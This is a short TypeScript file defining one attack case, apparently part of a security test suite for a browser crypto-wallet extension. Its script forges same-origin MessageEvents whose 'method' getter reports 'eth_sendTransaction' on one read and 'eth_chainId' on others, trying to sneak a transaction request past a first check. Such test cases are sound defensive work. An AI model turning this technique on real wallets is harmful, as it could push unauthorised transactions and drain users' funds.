import type { Attack } from '../Attack.ts';

/** Each world copies the data at its own first read, so getters can tell one story to each. */
export const attack: Attack = {
  entry: 'dispatchEvent(MessageEvent)',
  mechanism: 'getters that lie to the first reader',
  discovers: false,
  script: `
await kit.ready();
for (let evilAt = 1; evilAt < 5; evilAt += 1) {
  let reads = 0;
  const request = kit.rpc({ params: [kit.tx()] });
  Object.defineProperty(request, 'method', { enumerable: true, get: () => ((reads += 1) === evilAt ? 'eth_sendTransaction' : 'eth_chainId') });
  dispatchEvent(new MessageEvent('message', { data: kit.message(request), origin: location.origin, source: window }));
}
`,
};
